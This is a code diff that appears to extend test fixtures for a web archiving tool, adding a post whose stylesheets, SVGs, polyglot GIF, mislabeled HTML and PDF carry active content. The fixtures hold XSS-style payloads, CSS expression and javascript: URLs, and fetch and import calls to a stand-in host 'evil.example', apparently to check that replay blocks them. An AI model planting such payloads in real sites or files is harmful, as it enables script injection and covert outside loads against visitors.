@@ -28,6 +28,8 @@ class Page:
     reading: Reading
     served: str
     images: dict[str, bytes] = field(default_factory=dict)
+    files: Sequence[tuple[str, bytes, str, str]] = ()
+    """What else the archive holds for the page: address, content, type it was served as, role."""
 
 
 def png(red: int = 140, green: int = 28, blue: int = 43) -> bytes:
@@ -116,6 +118,8 @@ def _run(store: Store, archive: ArchiveFolder, site: int, pages: Sequence[Page],
             capture = keep(page.post.url, page.served.encode(), "text/html; charset=utf-8", "post")
             for url, body in page.images.items():
                 keep(url, body, "image/png", "image")
+            for file in page.files:
+                keep(*file)
             seen_at = at.strftime("%Y-%m-%dT%H:%M:%SZ")
             saved = store.posts.save(site, run, page.post, page.reading, capture_id=capture, seen_at=seen_at)
             outcomes.append(saved.outcome)
@@ -204,6 +208,45 @@ BITES: tuple[str, ...] = (
 """Words that would run, load or lead astray where a page let them through."""
 
 
+EVIL_STYLE = b"""@import "https://evil.example/i.css"; @import "again.css"; @font-face { font-family: e;
+src: url(https://evil.example/f.woff2) } body { font-family: e; background: url(//evil.example/b.png), url(drawing.svg);
+behavior: url(https://evil.example/x.htc); width: expression(bitten=1); list-style: url("javascript:bitten=1") }
+</style><script>bitten=1</script><img src=https://evil.example/s.png> """
+EVIL_DRAWING = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="bitten=1">
+<script>window.top.bitten=1;bitten=1;fetch("https://evil.example/svg")</script><style>@import
+"https://evil.example/svg.css";</style><image x:href="https://evil.example/svg.png" width="9" height="9"/>
+<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"/></foreignObject></svg>"""
+EVIL_PAGE = (
+    b"<!doctype html><script>bitten=1;fetch('https://evil.example/p')</script><img src=https://evil.example/p.png>"
+)
+POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00*/=1;window.top.bitten=1;bitten=1;//<script>bitten=1</script>"
+
+EVIL = "https://blog.example/evil"
+EVIL_FILES: Sequence[tuple[str, bytes, str, str]] = (
+    (f"{EVIL}/style.css", EVIL_STYLE, "text/css", "stylesheet"),
+    (f"{EVIL}/again.css", b"@import 'style.css'; p { background: url(polyglot.gif) }", "text/css", "stylesheet"),
+    (f"{EVIL}/drawing.svg", EVIL_DRAWING, "image/svg+xml", "image"),
+    (f"{EVIL}/page.png", EVIL_PAGE, "image/png", "image"),
+    (f"{EVIL}/page.svg", EVIL_PAGE, "image/svg+xml", "image"),
+    (f"{EVIL}/polyglot.gif", POLYGLOT, "image/gif", "image"),
+    (f"{EVIL}/script.gif", POLYGLOT, "text/html", "image"),
+    (f"{EVIL}/picture.png", png(), "image/png", "image"),
+    (f"{EVIL}/report.pdf", b"%PDF-1.4 1 0 obj << /OpenAction << /S /URI /URI (https://evil.example/pdf) >> >>",
+     "application/pdf", "attachment"),
+)  # fmt: skip
+EVIL_PAGE_SERVED = """<!doctype html><title>Files</title><link rel=stylesheet href=/evil/style.css>
+<p id=first>captured</p>
+<img id=held src=/evil/picture.png><img src=/evil/drawing.svg><img src=/evil/page.png><img src=/evil/page.svg>
+<img src=/evil/polyglot.gif srcset="https://evil.example/set.png 2x"><script src=/evil/polyglot.gif></script>
+<script src=/evil/script.gif></script><object data=/evil/drawing.svg></object><embed src=/evil/page.svg>
+<iframe src=/evil/page.png></iframe><picture><source srcset=https://evil.example/webp><img src=/evil/lost.png></picture>
+<p style="background:url('https://evil.example/attribute.png')">end</p>
+<style>@import url(https://evil.example/in.css);</style>
+<video poster=https://evil.example/poster.png src=https://evil.example/film.mp4 autoplay></video>
+<svg><image href=https://evil.example/use.png /><use href="/evil/drawing.svg#x" /></svg>
+<body background=//evil.example/bg>"""
+
+
 def hostile(folder: Path) -> Path:
     """Every bite as headline, outlet, author, text, markup, category, image name, address and as the served page."""
     pages = []
@@ -234,11 +277,20 @@ def hostile(folder: Path) -> Path:
         }
         post = _with(page.post, images=(Image(url=f"https://evil.example/{bite}.png", alt=bite, caption=bite),))
         pages.append(Page(post=post, reading=_with(page.reading, **facts), served=page.served))
+    pages.append(evil_files())
     again = [
         Page(post=_with(p.post, text=p.post.text + "\nedit " + BITES[0]), reading=p.reading, served=p.served)
         for p in pages
+        if not p.files
     ]
     return file_away(folder, pages, again, title=f"Blog {BITES[0]}")
+
+
+def evil_files() -> Page:
+    """A post whose files are not what they seem."""
+    shown = "".join(f"<img src={url}>" for url, *_ in EVIL_FILES)
+    page = a_page("evil", title="Files that are not what they seem", html=shown, served=EVIL_PAGE_SERVED)
+    return Page(post=page.post, reading=page.reading, served=page.served, files=EVIL_FILES)
 
 
 def _with(value: Any, **facts: Any) -> Any:
